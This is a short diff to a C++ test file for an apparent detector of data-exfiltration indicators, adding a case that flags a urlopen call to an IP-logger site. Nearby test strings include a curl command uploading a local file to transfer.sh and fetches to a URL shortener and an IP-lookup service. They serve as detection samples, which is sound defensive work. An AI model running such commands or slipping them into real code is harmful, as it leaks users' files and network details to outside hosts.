@@ -64,6 +64,7 @@ TEST(IndicatorsTest, ExfiltrationChannels) {
   ExpectIndicator("r = get('https://bit.ly/3xyz')", "indicator-shortener");
   ExpectIndicator("curl --upload-file ./a https://transfer.sh/a", "indicator-filehost");
   ExpectIndicator("ip = get('https://api.ipify.org').text", "indicator-ip-lookup");
+  ExpectIndicator("urlopen('https://iplogger.com/2abc')", "indicator-ip-lookup");
 }
 
 TEST(IndicatorsTest, IpLiteralUrls) {
